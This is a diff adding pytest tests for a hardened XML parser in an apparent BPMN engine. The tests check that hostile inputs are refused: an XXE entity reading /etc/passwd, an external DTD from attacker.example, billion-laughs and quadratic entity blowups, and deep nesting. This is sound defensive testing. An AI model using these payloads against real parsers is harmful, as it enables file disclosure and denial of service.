@@ -1,0 +1,108 @@
+"""engine.xmlsafe: hostile XML is refused quickly, before it can touch files, the network or memory."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from engine.errors import InvalidDefinition, UnsafeXml
+from engine.xmlsafe import parse_xml
+
+BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
+
+
+def _refused(content: bytes, **kwargs: int) -> UnsafeXml:
+    with pytest.raises(UnsafeXml) as caught:
+        parse_xml(content, filename="x.bpmn", **kwargs)
+    assert caught.value.problems and caught.value.problems[0]["file"] == "x.bpmn"
+    return caught.value
+
+
+def test_xxe_file_entity_is_refused() -> None:
+    content = b"""<?xml version="1.0"?>
+<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<definitions>&xxe;</definitions>"""
+    error = _refused(content)
+    assert error.problems[0]["line"] == 2
+    assert "DOCTYPE" in error.problems[0]["reason"]
+    assert "root:" not in error.detail
+
+
+def test_billion_laughs_is_refused_fast() -> None:
+    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
+    content = f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]><lolz>&l9;</lolz>'.encode()
+    started = time.perf_counter()
+    _refused(content)
+    assert time.perf_counter() - started < 1
+
+
+def test_quadratic_blowup_is_refused() -> None:
+    content = (b'<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "' + b"a" * 50_000 + b'">]><kaboom>'
+               + b"&a;" * 10_000 + b"</kaboom>")
+    _refused(content)
+
+
+def test_external_dtd_is_refused_even_after_a_comment_and_a_bom() -> None:
+    content = (b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n'
+               b'<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">\n<definitions/>')
+    assert _refused(content).problems[0]["line"] == 3
+
+
+def test_doctype_word_inside_content_is_not_refused() -> None:
+    content = f'<definitions xmlns="{BPMN_NS}"><documentation><![CDATA[<!DOCTYPE x>]]></documentation></definitions>'
+    tree = parse_xml(content.encode(), filename="x.bpmn")
+    assert tree.getroot()[0].text == "<!DOCTYPE x>"
+
+
+def test_oversized_file_is_refused_before_parsing() -> None:
+    content = b"<definitions>" + b" " * 6_000_000 + b"</definitions>"
+    error = _refused(content)
+    assert "6000027 bytes" in error.problems[0]["reason"]
+    _refused(b"<a>" + b"x" * 200 + b"</a>", max_bytes=100)
+
+
+def test_deep_nesting_is_refused_not_crashing() -> None:
+    content = b"<a>" * 100_000 + b"</a>" * 100_000
+    started = time.perf_counter()
+    error = _refused(content)
+    assert "deeply" in error.problems[0]["reason"]
+    assert time.perf_counter() - started < 2
+
+
+@pytest.mark.parametrize("content", [
+    b"\xff\xfe<\x00a\x00/\x00>\x00",  # UTF-16
+    b"<a>\xc3\x28</a>",  # invalid UTF-8
+    b'<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>',
+    bytes(range(256)) * 4,  # garbage
+])
+def test_non_utf8_and_garbage_are_refused(content: bytes) -> None:
+    _refused(content)
+
+
+def test_malformed_xml_reports_the_line() -> None:
+    content = b"<definitions>\n  <process>\n    <task>\n  </process>\n</definitions>"
+    with pytest.raises(InvalidDefinition) as caught:
+        parse_xml(content, filename="hong.bpmn")
+    assert not isinstance(caught.value, UnsafeXml)
+    (problem,) = caught.value.problems
+    assert problem["file"] == "hong.bpmn" and problem["line"] == 4
+    assert "mismatch" in problem["reason"] and problem["reason_vi"].startswith("XML sai cú pháp")
+
+
+def test_empty_file_is_invalid() -> None:
+    with pytest.raises(InvalidDefinition):
+        parse_xml(b"  \n", filename="rong.bpmn")
+
+
+def test_vietnamese_utf8_with_bom_parses() -> None:
+    name = "Sở Khoa học và Công nghệ — Hòa Lạc"
+    content = f'<?xml version="1.0" encoding="UTF-8"?>\n<definitions xmlns="{BPMN_NS}" name="{name}"/>'
+    tree = parse_xml(b"\xef\xbb\xbf" + content.encode("utf-8"), filename="x.bpmn")
+    assert tree.getroot().get("name") == name
+    assert tree.getroot().sourceline == 2
+
+
+def test_comments_and_processing_instructions_are_dropped() -> None:
+    tree = parse_xml(b"<a><!-- c --><?pi x?><b/></a>", filename="x.bpmn")
+    assert [child.tag for child in tree.getroot()] == ["b"]
